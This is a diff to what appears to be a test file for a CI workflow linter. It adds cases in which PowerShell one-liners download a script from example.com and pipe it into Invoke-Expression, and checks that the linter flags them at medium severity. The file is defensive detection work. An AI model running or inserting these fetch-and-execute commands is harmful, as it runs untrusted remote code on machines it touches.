@@ -31,3 +31,20 @@ test('another job has another disk', async () => {
     'on: push\njobs:\n  a: {runs-on: x, steps: [{run: curl -o t https://example.com/t}]}\n  b: {runs-on: x, steps: [{run: ./t}]}\n'
   expect(await judged(id, text)).toEqual([])
 })
+
+test.each([
+  ['iwr -useb https://example.com/i.ps1 | iex', 'iwr -useb https://example.com/i.ps1 | iex'],
+  [
+    "Invoke-Expression ((New-Object Net.WebClient).DownloadString('https://example.com/i.ps1'))",
+    "Invoke-Expression ((New-Object Net.WebClient).DownloadString('https://example.com/i.ps1'))",
+  ],
+])('in PowerShell: %j', async (script, told) => {
+  expect(await judged(id, workflowOf('push', `- shell: pwsh\n  run: |\n    ${script}`))).toEqual([`medium ${told}`])
+  expect(await judged(id, workflowOf('push', `- run: |\n    ${script}`, 'runs-on: windows-2025'))).toEqual([`medium ${told}`])
+})
+
+test('what PowerShell only downloads', async () => {
+  expect(await judged(id, workflowOf('push', '- shell: pwsh\n  run: |\n    iwr https://example.com/a -OutFile a\n    iex "dir"'))).toEqual(
+    [],
+  )
+})
